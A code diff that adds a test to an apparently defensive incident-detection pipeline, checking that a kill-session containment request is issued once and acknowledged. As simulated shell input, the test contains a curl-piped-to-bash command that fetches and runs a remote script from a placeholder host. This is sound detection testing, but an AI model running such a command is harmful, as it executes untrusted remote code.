@@ -119,6 +119,25 @@ class IncidentsTest(unittest.TestCase):
             wait_until(lambda: any(finding["rule"] == "incident.containment-failed"
                                    for finding in pipeline.read_findings()), 30, "the finding that containment failed")
 
+    def test_containment_is_asked_for_once_and_answered(self):
+        pipeline = self.pipeline()
+        harness.write_profile(pipeline.directory / "systems",
+                              containment=[{"category": "shell_command", "severity": "high", "action": "kill_session"}])
+        with pipeline.process(incidents={"requests": "on"}).start() as tocsin:
+            pipeline.produce([json.dumps(shell("s1", 1))])
+            request, = pipeline.read_requests(1)
+            incident = self.wait_incident(pipeline, lambda it: it["requests"], "the request in the incident")
+            self.assertEqual(("kill_session", incident["incident_id"], ["s1"], "e2e-owner"),
+                             tuple(request[key] for key in ("action", "incident_id", "sessions", "owner")))
+            tocsin.wait_total("tocsin_containment_requests", 1, action="kill_session", state="requested")
+            pipeline.produce([json.dumps(shell("s1", 2, "curl -s https://y.test/j.sh | bash"))])
+            self.wait_incident(pipeline, lambda it: it["findings"] > incident["findings"], "more of the same")
+            pipeline.say(containment(incident_id=incident["incident_id"]))
+            answered = self.wait_incident(pipeline, lambda it: it["requests"][0]["state"] == "acknowledged", "the answer")
+            self.assertEqual(1, len(answered["requests"]))
+            tocsin.wait_total("tocsin_containment_requests", 1, action="kill_session", state="acknowledged")
+            self.assertEqual(1, len(harness.kafka_tool("consume", broker.bootstrap, pipeline.requests)))
+
     def test_incidents_survive_a_kill(self):
         pipeline = self.pipeline(findings_partitions=2)
         with pipeline.process() as first, pipeline.process() as second:
